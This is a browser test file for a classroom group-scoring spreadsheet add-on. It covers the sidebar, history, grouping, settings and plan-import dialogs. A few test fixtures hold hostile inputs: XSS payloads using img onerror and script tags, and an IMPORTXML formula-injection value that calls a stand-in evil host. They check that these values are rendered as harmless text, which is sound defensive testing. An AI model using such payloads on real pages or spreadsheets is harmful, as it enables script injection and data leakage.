/**
 * The real Sidebar.html in Chromium, its google.script.run calls bridged to the built bundle over the stand-in
 * (page.exposeFunction). Checks what a teacher sees: optimistic totals, the queue when the lock is busy, undo,
 * keyboard shortcuts, search, and that names are shown as text.
 */
import { mkdirSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LOG_COL } from '../../shared/points/log.ts';
import { showBridged } from '../support/page-bridge.ts';
import { sharedBrowser } from '../support/chromium.ts';
import { bundle, formGroupsRequest, logName, open, otherUser, ROSTER_ZH, type Session, seedLog } from './helpers.ts';

const OUT = 'test-output/addon';

/** google.script.run for a static page: each call goes to node, asynchronously, like the real one. */

let browser: Browser;
beforeAll(async () => {
  browser = await sharedBrowser();
  mkdirSync(OUT, { recursive: true });
});
afterAll(async () => {
  await browser?.close();
});

/** Set `held` to keep the page's server calls waiting until it resolves (a slow network, without a clock). */
interface ServerCalls {
  held?: Promise<void>;
}

const sidebarFor = async (s: Session, calls: ServerCalls = {}): Promise<Page> => {
  const html = bundle().pages.Sidebar!;
  const page = await browser.newPage({ viewport: { width: 300, height: 900 }, locale: 'zh-CN' });
  await showBridged(page, html, s, () => calls.held);
  await page.waitForSelector('[data-testid=student]');
  return page;
};

const grouped = async (rows = ROSTER_ZH): Promise<Session> => {
  const s = await open({ locale: 'zh-CN', workbookOptions: { sheets: { 名单: rows } } });
  expect(s.call('formGroupsRun', formGroupsRequest).ok).toBe(true);
  return s;
};
const logLength = (s: Session): number => (s.si.workbook.findSheet(logName(s))?.values().length ?? 1) - 1;
const total = (page: Page, id: string) => page.locator(`[data-testid=student][data-id="${id}"] [data-testid=total]`);

describe('Scoring sidebar in Chromium', () => {
  it('awards with one click, shows the new total at once, and undo takes it back', async () => {
    const s = await grouped();
    const calls: ServerCalls = {};
    const page = await sidebarFor(s, calls);
    const first = page.locator('[data-testid=student]').first();
    const id = (await first.getAttribute('data-id'))!;
    await first.click();
    await expect.poll(() => page.locator('[data-testid=selection-count]').textContent()).toBe('已选 1 人');
    let answer = (): void => {};
    calls.held = new Promise((resolve) => {
      answer = resolve;
    });
    await page.click('[data-testid=award-0]');
    // Optimistic: shown while the server call is still waiting for its answer.
    expect(await total(page, id).textContent()).toBe('2');
    expect(logLength(s)).toBe(0);
    answer();
    await expect.poll(() => logLength(s)).toBe(1);
    await expect.poll(() => page.locator('[data-testid=entry]').count()).toBe(1);
    await page.screenshot({ path: `${OUT}/sidebar-award.png` });
    await page.click('[data-testid=undo]');
    await expect.poll(() => logLength(s)).toBe(2);
    await expect.poll(() => total(page, id).textContent()).toBe('0');
    await page.close();
  });

  it('selects a whole group by its name, and keys 1–9 / Shift+digit award and deduct', async () => {
    const s = await grouped();
    const page = await sidebarFor(s);
    const group = page.locator('[data-testid=group]').first();
    await group.click();
    const ids = await page
      .locator('.group')
      .first()
      .locator('[data-testid=student]')
      .evaluateAll((els) => els.map((e) => e.getAttribute('data-id')!));
    expect(ids).toHaveLength(4);
    await page.keyboard.press('Digit2'); // 纪律 +1 for the whole group
    await expect.poll(() => logLength(s)).toBe(4);
    await page.keyboard.press('Shift+Digit3'); // 卫生 −1
    await expect.poll(() => logLength(s)).toBe(8);
    const st = s.call('scoringState');
    for (const id of ids) expect(st.totals[id]).toBe(0);
    expect(
      s.si.workbook
        .sheet('积分记录')
        .values()
        .slice(1)
        .map((r) => r[LOG_COL.category]),
    ).toEqual(['纪律', '纪律', '纪律', '纪律', '卫生', '卫生', '卫生', '卫生']);
    await page.close();
  });

  it('keeps awards queued while another teacher holds the lock, then saves them all in order', async () => {
    const s = await grouped();
    const other = await otherUser(s, 'colleague@example.com');
    const page = await sidebarFor(s);
    const ids = await page
      .locator('[data-testid=student]')
      .evaluateAll((els) => els.slice(0, 3).map((e) => e.getAttribute('data-id')!));
    expect(other.si.LockService.getDocumentLock().tryLock(1000)).toBe(true); // a long write elsewhere
    for (const id of ids) {
      await page.click('[data-testid=clear-selection]');
      await page.click(`[data-testid=student][data-id="${id}"]`);
      await page.click('[data-testid=award-0]');
    }
    await expect.poll(() => page.locator('[data-testid=queue]').textContent()).toMatch(/3 条记分排队中/);
    await expect.poll(() => page.locator('[data-testid=status]').textContent()).toMatch(/另一位老师正在记分/);
    for (const id of ids) expect(await total(page, id).textContent()).toBe('2');
    await page.screenshot({ path: `${OUT}/sidebar-queued.png` });
    expect(logLength(s)).toBe(0);
    other.si.endExecution(); // the other write finished
    await expect.poll(() => logLength(s), { timeout: 15_000 }).toBe(3);
    await expect.poll(() => page.locator('[data-testid=queue]').isHidden()).toBe(true);
    expect(
      s.si.workbook
        .sheet('积分记录')
        .values()
        .slice(1)
        .map((r) => r[LOG_COL.studentId]),
    ).toEqual(ids);
    await page.close();
  });

  it("reconciles with the log on refresh (another teacher's award) and reverses a past entry", async () => {
    const s = await grouped();
    const other = await otherUser(s, 'colleague@example.com');
    const page = await sidebarFor(s);
    const id = (await page.locator('[data-testid=student]').first().getAttribute('data-id'))!;
    expect(other.call('awardPoints', { studentIds: [id], category: '学习', points: 2 }).ok).toBe(true);
    expect(await total(page, id).textContent()).toBe('0'); // not seen yet
    await page.click('[data-testid=refresh]');
    await expect.poll(() => total(page, id).textContent()).toBe('2');
    await page.locator('[data-testid=entry] [data-testid=reverse]').first().click();
    await expect.poll(() => logLength(s)).toBe(2);
    await expect.poll(() => total(page, id).textContent()).toBe('0');
    await expect.poll(() => page.locator('[data-testid=entry].reversed').count()).toBe(1);
    // The reversal is recorded under this teacher's anonymous key, not the colleague's (and not an email).
    const keyOf = (row: number) => s.si.workbook.sheet('积分记录').values()[row]![LOG_COL.userKey];
    expect(keyOf(2)).not.toBe(keyOf(1));
    expect(String(keyOf(2))).not.toContain('@');
    await page.close();
  });

  it("shows each group's score as the leaderboard does (scaled to group size, saying so) and entries' times on the spreadsheet's clock", async () => {
    // 25 students in groups of 4: one group of 5. Kiritimati (UTC+14) is nobody's browser zone here.
    const extra = [2024099, '学生25', '女', 80, 80, 80, ''];
    const s = await open({
      locale: 'zh-CN',
      workbookOptions: { sheets: { 名单: [...ROSTER_ZH, extra] }, timeZone: 'Pacific/Kiritimati' },
    });
    expect(s.call('formGroupsRun', formGroupsRequest).ok).toBe(true);
    expect(s.call('saveSettings', { fairness: 'normalized' }).ok).toBe(true);
    const groups = s.call('scoringState').groups as { name: string; members: { id: string }[] }[];
    const five = groups.find((g) => g.members.length === 5)!;
    const four = groups.find((g) => g.members.length === 4)!;
    for (const g of [five, four])
      expect(s.call('awardPoints', { studentIds: g.members.map((m) => m.id), category: '学习', points: 2 }).ok).toBe(
        true,
      );
    expect(s.call('updateTallies').ok).toBe(true);
    const board = s.si.workbook.sheet('积分汇总').values();
    expect(board[0]![1]).toBe('积分（按人数折算）');
    const boardScore = (name: string) => board.find((r) => r[0] === name)![1];
    const page = await sidebarFor(s);
    const shown = (name: string) =>
      page.locator(`[data-testid=group][data-group="${name}"] [data-testid=group-total]`).textContent();
    // 10 points for 5 students and 8 for 4, scaled to the mean size 25/6: both 8.33, as on the leaderboard.
    for (const g of [five, four]) {
      expect(boardScore(g.name)).toBeCloseTo(8.33, 2);
      expect(await shown(g.name)).toBe(`按人数折算 ${boardScore(g.name)} 分`);
    }
    const entry = page.locator('[data-testid=entry]').first();
    const iso = (await entry.locator('time').getAttribute('datetime'))!;
    const parts = Object.fromEntries(
      new Intl.DateTimeFormat('en-CA', {
        timeZone: 'Pacific/Kiritimati',
        year: 'numeric',
        month: '2-digit',
        day: '2-digit',
        hour: '2-digit',
        minute: '2-digit',
        hourCycle: 'h23',
      })
        .formatToParts(new Date(iso))
        .map((p) => [p.type, p.value]),
    );
    const full = `${parts.year}-${parts.month}-${parts.day} ${parts.hour}:${parts.minute}`;
    expect(await entry.locator('.what').getAttribute('title')).toBe(full);
    expect([full.slice(11), full.slice(5)]).toContain(await entry.locator('time').textContent());
    await page.close();
  });

  it('filters by search and shows names exactly as text (no markup, no formulas)', async () => {
    const rows = ROSTER_ZH.map((r) => [...r]);
    rows[3]![1] = '<img src=x onerror="window.__pwned=1">';
    rows[4]![1] = '\'=IMPORTXML("http://evil.example","//a")';
    const s = await grouped(rows);
    const page = await sidebarFor(s);
    await expect.poll(() => page.locator('.mname', { hasText: '<img src=x' }).count()).toBe(1);
    expect(await page.locator('#groups img').count()).toBe(0);
    expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    await page.fill('[data-testid=search]', 'IMPORTXML');
    await expect.poll(() => page.locator('[data-testid=student]').count()).toBe(1);
    expect(await page.locator('.mname').first().textContent()).toBe('=IMPORTXML("http://evil.example","//a")');
    await page.close();
  });
});

describe('History in Chromium: any past entry', () => {
  it('"Older entries" pages back through a 500-entry log to the oldest entry, which can be reversed', async () => {
    const s = await grouped();
    const members = seedLog(s, 500);
    const page = await sidebarFor(s);
    await expect.poll(() => page.locator('[data-testid=entry]').count()).toBe(30);
    expect(await page.locator('[data-testid=entry]').first().getAttribute('data-event')).toBe('e499');
    const oldest = page.locator('[data-testid=entry][data-event=e0]');
    let clicks = 0;
    while ((await oldest.count()) === 0 && clicks < 40) {
      await page.click('[data-testid=older-entries]:not([disabled])');
      clicks++;
      await expect.poll(() => page.locator('[data-testid=older-entries]').isDisabled()).toBe(false);
    }
    expect(clicks).toBe(16); // 60 at the first click (it overlaps the 30 shown), then 30 a click
    await expect.poll(() => page.locator('[data-testid=entry]').count()).toBe(500);
    await expect.poll(() => page.locator('[data-testid=history-info]').textContent()).toBe('已到最早的记录。');
    expect(await page.locator('[data-testid=older-entries]').isHidden()).toBe(true);
    const id = members[0]!.id; // e0 is member 0, +1
    const before = Number(await total(page, id).textContent());
    await oldest.locator('[data-testid=reverse]').click();
    await expect.poll(() => logLength(s)).toBe(501);
    const last = s.si.workbook.sheet(logName(s)).values()[501]!;
    expect([String(last[LOG_COL.studentId]), last[LOG_COL.points], last[LOG_COL.reverses]]).toEqual([id, -1, 'e0']);
    await expect.poll(() => total(page, id).textContent()).toBe(String(before - 1));
    await expect.poll(() => oldest.getAttribute('class')).toBe('reversed');
    expect(await oldest.locator('[data-testid=reverse]').count()).toBe(0);
    await oldest.scrollIntoViewIfNeeded();
    await page.screenshot({ path: `${OUT}/sidebar-history-oldest.png` });
    expect(s.call('scoringState').totals[id]).toBe(before - 1);
    await page.close();
  });

  it("lists only the selected student's entries, marks ones reversed further down, and reports a colleague's earlier reversal", async () => {
    const s = await grouped();
    const members = seedLog(s, 500);
    const other = await otherUser(s, 'colleague@example.com');
    const m = members[7]!; // entries e7, e31, e55, … (every 24th)
    expect(s.call('reverseEntry', 'e31').ok).toBe(true); // its compensation is at the bottom of the log
    const page = await sidebarFor(s);
    await page.click(`[data-testid=student][data-id="${m.id}"]`);
    await page.check('[data-testid=history-only-selected]');
    await expect.poll(() => page.locator('[data-testid=entry]').count()).toBe(1 + 21); // its reversal row + 21 entries (e7 … e487)
    const shown = await page
      .locator('[data-testid=entry]')
      .evaluateAll((els) => els.map((e) => e.getAttribute('data-event')));
    expect(shown.slice(1)).toEqual(Array.from({ length: 21 }, (_, k) => `e${7 + 24 * (20 - k)}`));
    await expect.poll(() => page.locator('[data-testid=history-info]').textContent()).toBe('已到最早的记录。');
    expect(await page.locator('[data-testid=entry][data-event=e31]').getAttribute('class')).toBe('reversed');
    // A colleague reverses e7 after the list was shown: the click is refused with a sentence, nothing written.
    expect(other.call('reverseEntry', 'e7').ok).toBe(true);
    await page.locator('[data-testid=entry][data-event=e7] [data-testid=reverse]').click();
    await expect.poll(() => page.locator('[data-testid=status]').textContent()).toBe('这条记录已经撤回过了。');
    await expect.poll(() => page.locator('[data-testid=entry][data-event=e7]').getAttribute('class')).toBe('reversed');
    expect(logLength(s)).toBe(502);
    await page.uncheck('[data-testid=history-only-selected]');
    await expect.poll(() => page.locator('[data-testid=entry]').count()).toBe(30);
    await page.close();
  });

  it('speaks English, and keys still award while the history filter has the focus', async () => {
    const s = await open({ locale: 'en', workbookOptions: { sheets: { Roster: ROSTER_ZH } } });
    expect(s.call('formGroupsRun', formGroupsRequest).ok).toBe(true);
    const members = seedLog(s, 40);
    const page = await sidebarFor(s);
    await expect.poll(() => page.locator('[data-testid=older-entries]').textContent()).toBe('Older entries');
    expect(
      await page.locator('label', { has: page.locator('[data-testid=history-only-selected]') }).textContent(),
    ).toBe('Only the selected students');
    await page.click('[data-testid=older-entries]');
    await expect.poll(() => page.locator('[data-testid=history-info]').textContent()).toBe('That is the oldest entry.');
    await expect.poll(() => page.locator('[data-testid=entry]').count()).toBe(40);
    const m = members[3]!;
    await page.click(`[data-testid=student][data-id="${m.id}"]`);
    await page.check('[data-testid=history-only-selected]');
    await expect.poll(() => page.locator('[data-testid=entry]').count()).toBe(2); // e3, e27
    await page.keyboard.press('Digit1'); // focus is on the checkbox
    await expect.poll(() => logLength(s)).toBe(41);
    await expect.poll(() => page.locator('[data-testid=entry]').count()).toBe(3);
    // Once clicked, the entry's Reverse button goes at once (no second reversal can be queued): one compensating row.
    await page.locator('[data-testid=entry][data-event=e3] [data-testid=reverse]').click();
    expect(await page.locator('[data-testid=entry][data-event=e3] [data-testid=reverse]').count()).toBe(0);
    await expect.poll(() => logLength(s)).toBe(42);
    await expect.poll(() => page.locator('[data-testid=entry][data-event=e3]').getAttribute('class')).toBe('reversed');
    await page.close();
  });
});

const dialogFor = async (s: Session, name: string): Promise<Page> => {
  const html = bundle().pages[name]!;
  const page = await browser.newPage({ viewport: { width: 560, height: 700 } });
  await showBridged(page, html, s);
  return page;
};

describe('Sidebar before any grouping', () => {
  it('says so and opens the Form groups dialog from a button', async () => {
    const s = await open({ locale: 'zh-CN', workbookOptions: { sheets: { 名单: ROSTER_ZH } } });
    const html = bundle().pages.Sidebar!;
    const page = await browser.newPage({ viewport: { width: 300, height: 600 } });
    await showBridged(page, html, s);
    await expect.poll(() => page.locator('[data-testid=notice]').textContent()).toMatch(/还没有分组/);
    await page.click('[data-testid=open-form-groups]');
    await expect.poll(() => s.si.ui.dialog?.title).toBe('互助 · 分组');
    await page.close();
  });
});

describe('Form groups dialog in Chromium', () => {
  it('lists the roster problems first and keeps the button disabled; a clean roster forms groups', async () => {
    const bad = ROSTER_ZH.map((r) => [...r]);
    bad[6]![3] = '九十';
    const s = await open({ locale: 'zh-CN', workbookOptions: { sheets: { 名单: bad } } });
    const page = await dialogFor(s, 'FormGroups');
    await expect.poll(() => page.locator('[data-testid=problem][data-severity=error]').count()).toBe(1);
    expect(await page.locator('[data-testid=problem]').first().textContent()).toMatch(/第7行.*D.*九十/);
    expect(await page.locator('[data-testid=run]').isDisabled()).toBe(true);
    expect(await page.locator('[data-testid=keep-previous]').isVisible()).toBe(false); // no earlier grouping yet
    await page.screenshot({ path: `${OUT}/form-groups-problems.png` });

    s.si.workbook.setSheet('名单', ROSTER_ZH); // the teacher fixes the cell
    await page.click('[data-testid=recheck]');
    await expect.poll(() => page.locator('[data-testid=run]').isDisabled()).toBe(false);
    await page.click('[data-testid=run]');
    await expect
      .poll(() => page.locator('[data-testid=result]').textContent())
      .toMatch(/已写入新工作表“分组”：24 名学生，6 个组/);
    await page.screenshot({ path: `${OUT}/form-groups-done.png` });
    expect(s.si.workbook.sheetNames()).toContain('分组');
    await page.close();
  });
});

describe('Form groups dialog: notes, rounds, another arrangement, the current groups', () => {
  it('heads notes as notes, writes one sheet per round, tries another arrangement, and switches to the open round', async () => {
    const rows = ROSTER_ZH.map((r) => [...r]);
    rows[2]![2] = 'X'; // not a gender Huzhu knows: a note, not an error
    const s = await open({ locale: 'zh-CN', workbookOptions: { sheets: { 名单: rows } } });
    const page = await dialogFor(s, 'FormGroups');
    await expect.poll(() => page.locator('[data-testid=problem][data-severity=warning]').count()).toBe(1);
    expect(await page.locator('[data-testid=problems-title]').textContent()).toBe('名单提示（不影响分组）');
    await expect.poll(() => page.locator('[data-testid=run]').isDisabled()).toBe(false);
    expect(await page.locator('[data-testid=rounds]').isVisible()).toBe(false); // under 更多选项
    expect(await page.locator('[data-testid=use-active]').isVisible()).toBe(false);
    await page.click('[data-testid=more-options] summary');
    await page.fill('[data-testid=rounds]', '2');
    await page.click('[data-testid=run]');
    await expect.poll(() => page.locator('[data-testid=result]').textContent()).toMatch(/已写入 2 张新工作表/);
    expect(await page.locator('[data-testid=result]').textContent()).toMatch(/各组平均总分最多相差/);
    expect(s.si.workbook.sheetNames()).toEqual(['名单', '分组 第1轮', '分组 第2轮']);

    await page.fill('[data-testid=rounds]', '1');
    await page.click('[data-testid=another]');
    await expect.poll(() => page.locator('[data-testid=result]').textContent()).toMatch(/已写入新工作表“分组”/);
    expect(await page.locator('[data-testid=seed]').inputValue()).toBe('2');
    const groupsOf = (name: string) =>
      s.si.workbook
        .sheet(name)
        .values()
        .map((r) => r.join('|'))
        .join('\n');
    expect(groupsOf('分组')).toContain('分法编号 2');

    s.si.openSheet('分组 第2轮');
    await page.click('[data-testid=recheck]');
    await expect.poll(() => page.locator('[data-testid=use-active]').isVisible()).toBe(true);
    expect(await page.locator('[data-testid=roster-source]').textContent()).toContain('现在的分组：“分组”');
    expect(await page.locator('[data-testid=use-active]').textContent()).toBe('用“分组 第2轮”作为现在的分组');
    await page.click('[data-testid=use-active]');
    await expect
      .poll(() => page.locator('[data-testid=result]').textContent())
      .toBe('现在记分和打印都用“分组 第2轮”。');
    expect(await page.locator('[data-testid=use-active]').isVisible()).toBe(false);
    expect(await page.locator('[data-testid=roster-source]').textContent()).toContain('现在的分组：“分组 第2轮”');
    expect(s.call('scoringState').groupsSheet).toBe('分组 第2轮');
    await page.screenshot({ path: `${OUT}/form-groups-rounds.png` });
    await page.close();
  });
});

describe('Settings dialog in Chromium', () => {
  it('edits categories and the badge, and shows every problem when a value is wrong', async () => {
    const s = await open({ locale: 'en' });
    const page = await dialogFor(s, 'Settings');
    await expect.poll(() => page.locator('[data-testid=category]').count()).toBe(3);
    await page.locator('[data-testid=category] .cat-name').first().fill('Reading');
    await page.fill('[data-testid=badge-name]', '');
    await page.locator('[data-testid=category] .cat-name').nth(1).fill('Reading');
    await page.click('[data-testid=save]');
    await expect
      .poll(() => page.locator('[data-testid=result]').textContent())
      .toMatch(/not saved.*"Reading" appears twice.*badge needs a name/);
    expect(s.si.workbook.findSheet('Settings')).toBeUndefined();
    await page.locator('[data-testid=category] .cat-name').nth(1).fill('Discipline');
    await page.fill('[data-testid=badge-name]', 'Star');
    await page.fill('[data-testid=badge-every]', '15');
    await page.click('[data-testid=save]');
    await expect.poll(() => page.locator('[data-testid=result]').textContent()).toMatch(/Saved/);
    expect(s.call('settingsView').settings).toMatchObject({
      badge: { name: 'Star', every: 15 },
      categories: [{ name: 'Reading' }, { name: 'Discipline' }, { name: 'Hygiene' }],
    });
    await page.close();
  });
});

describe('Badges, leader suggestion, plan import and help in Chromium', () => {
  it('shows the badge and suggests the next 组长 once a student earns one', async () => {
    const s = await grouped();
    const page = await sidebarFor(s);
    const firstGroup = page.locator('.group').first();
    const id = (await firstGroup.locator('[data-testid=student]').last().getAttribute('data-id'))!;
    expect(await firstGroup.locator('.leader').count()).toBe(0);
    for (let i = 0; i < 10; i++) s.call('awardPoints', { studentIds: [id], category: '学习', points: 2 });
    await page.click('[data-testid=refresh]');
    await expect
      .poll(() => page.locator(`[data-testid=student][data-id="${id}"] [data-testid=badges]`).textContent())
      .toBe('月亮×1');
    const name = await page.locator(`[data-testid=student][data-id="${id}"] .mname`).textContent();
    await expect.poll(() => firstGroup.locator('.leader').textContent()).toBe(`建议组长：${name}`);
    await page.close();
  });

  it('imports pasted plan text through the dialog', async () => {
    const s = await open({ locale: 'zh-CN' });
    const page = await dialogFor(s, 'ImportPlan');
    await page.fill(
      '[data-testid=plan-text]',
      '小组合作学习方案\n一、分组方法\n每组6人，按2:2:2搭配。\n二、评比办法\n每得到20分，就可以换一个月亮。\n',
    );
    await page.click('[data-testid=preview]');
    await expect.poll(() => page.locator('[data-testid=plan] td').first().textContent()).toBe('小组合作学习方案');
    await page.click('[data-testid=import]');
    await expect.poll(() => page.locator('[data-testid=result]').textContent()).toMatch(/已写入“计划”和“日程”/);
    expect(s.call('settingsView').settings).toMatchObject({ groupSize: 6, mix: [2, 2, 2] });
    await page.close();
  });

  it('reads a paste carrying clipboard HTML by its structure and previews every setting old → new', async () => {
    const s = await open({ locale: 'zh-CN' });
    expect(s.call('saveSettings', { groupSize: 4, mix: null }).ok).toBe(true);
    const page = await dialogFor(s, 'ImportPlan');
    await expect.poll(() => page.locator('h1').textContent()).toBe('导入计划文本');
    // What Chromium puts on the clipboard when a web page or a Word document is copied: text/html beside text/plain.
    const html = [
      '<html><body><!--StartFragment-->',
      '<h1>七年级（2）班小组合作学习方案 &lt;img src=x onerror="window.__pwned=1"&gt;</h1>',
      '<h2>一、指导思想</h2><p>以学生为主体，互相帮助、共同进步。</p>',
      '<h2>二、分组办法</h2><p>每组4-6人，按2:1:1搭配。</p>',
      '<h3>（一）组内分工</h3>',
      '<ol><li>组长<ol type="a"><li>组织讨论</li><li>分配任务</li></ol></li><li>记录员</li></ol>',
      '<h3>（二）积分规则</h3><p>每累计20分可兑换一个“星星”。</p>',
      '<h2>三、活动安排</h2>',
      '<table><tr><th>时间</th><th>内容</th></tr><tr><td>9月1日</td><td>分组并选出组长</td></tr>',
      '<tr><td>9月15日</td><td>第一次小组展示</td></tr></table>',
      '<img src="x" onerror="window.__pwned=2"><script>window.__pwned=3</script>',
      '<!--EndFragment--></body></html>',
    ].join('');
    const plain = '七年级（2）班小组合作学习方案\n一、指导思想\n以学生为主体，互相帮助、共同进步。\n二、分组办法\n…';
    // Run in the page (this project's types have no DOM): the paste event a teacher's Ctrl+V dispatches.
    const kept = await page.evaluate(`(() => {
      const box = document.querySelector('[data-testid=plan-text]');
      box.focus();
      const data = new DataTransfer();
      data.setData('text/html', ${JSON.stringify(html)});
      data.setData('text/plain', ${JSON.stringify(plain)});
      const e = new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true });
      box.dispatchEvent(e);
      return { value: box.value, handled: e.defaultPrevented };
    })()`);
    expect(kept).toEqual({ value: plain, handled: true });
    await page.click('[data-testid=preview]');
    await expect.poll(() => page.locator('[data-testid=structured]').isVisible()).toBe(true);
    expect(await page.locator('[data-testid=plan] td').first().textContent()).toBe(
      '七年级（2）班小组合作学习方案 <img src=x onerror="window.__pwned=1">',
    );
    expect(await page.locator('[data-testid=plan] td').nth(2).textContent()).toBe('2'); // two schedule rows
    expect(await page.locator('[data-testid=change]').allTextContents()).toEqual([
      '能力搭配：无 → 2:1:1',
      '徽章：月亮 → 星星',
    ]);
    expect(await page.locator('[data-testid=changes-title]').textContent()).toMatch(/原来 → 以后/);
    expect(await page.locator('[data-testid=plan-choice]').isVisible()).toBe(false); // one plan: nothing to choose
    await page.screenshot({ path: `${OUT}/import-plan-paste.png` });
    await page.click('[data-testid=import]');
    await expect.poll(() => page.locator('[data-testid=result]').textContent()).toMatch(/“设置”已更新/);
    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    expect(await page.locator('img').count()).toBe(0);
    const rows = s.si.workbook.sheet('计划').values().slice(1);
    expect(rows.filter((r) => r[1] !== '').map((r) => `${r[1]} ${r[2]}${r[3]}`)).toEqual([
      '1 一、指导思想',
      '1 二、分组办法',
      '2 （一）组内分工',
      '3 1.组长',
      '4 a.组织讨论',
      '4 b.分配任务',
      '3 2.记录员',
      '2 （二）积分规则',
      '1 三、活动安排',
    ]);
    expect(s.call('settingsView').settings).toMatchObject({ groupSize: 4, mix: [2, 1, 1], badge: { name: '星星' } });
    // Typing in the box after the paste: its text is what is read now, and the preview must be made again.
    await page.fill('[data-testid=plan-text]', '你好');
    expect(await page.locator('[data-testid=import]').isDisabled()).toBe(true);
    await page.click('[data-testid=preview]');
    await expect.poll(() => page.locator('[data-testid=result]').textContent()).toMatch(/没有在这段文字里找到计划/);
    await page.close();
  });

  it('with several plans the teacher chooses which one feeds the settings', async () => {
    const s = await open({ locale: 'en' });
    const page = await dialogFor(s, 'ImportPlan');
    await expect.poll(() => page.locator('h1').textContent()).toBe('Import plan text');
    await page.fill(
      '[data-testid=plan-text]',
      [
        '小组合作学习方案(汇总2篇)',
        '小组合作学习方案篇一',
        '一、分组办法',
        '每组6人，按2:2:2搭配。',
        '小组合作学习方案篇二',
        '一、分组办法',
        '每组5人。',
      ].join('\n'),
    );
    await page.click('[data-testid=preview]');
    await expect.poll(() => page.locator('[data-testid=plan-choice]').isVisible()).toBe(true);
    expect(await page.locator('[data-testid=change]').allTextContents()).toEqual([
      'Group size: 4 → 6',
      'Ability mix: 2:1:1 → 2:2:2',
    ]);
    await page.selectOption('[data-testid=plan-choice]', '1');
    await expect
      .poll(() => page.locator('[data-testid=change]').allTextContents())
      .toEqual(['Group size: 4 → 5', 'Ability mix: 2:1:1 → none']);
    await page.click('[data-testid=import]');
    await expect.poll(() => page.locator('[data-testid=result]').textContent()).toMatch(/Settings updated/);
    expect(s.call('settingsView').settings).toMatchObject({ groupSize: 5, mix: null });
    await page.close();
  });

  it('shows the help in the user language', async () => {
    const s = await open({ locale: 'en' });
    const page = await dialogFor(s, 'Help');
    await expect.poll(() => page.locator('[data-testid=help-en]').isVisible()).toBe(true);
    expect(await page.locator('[data-testid=help-zh]').isVisible()).toBe(false);
    await page.close();
  });
});
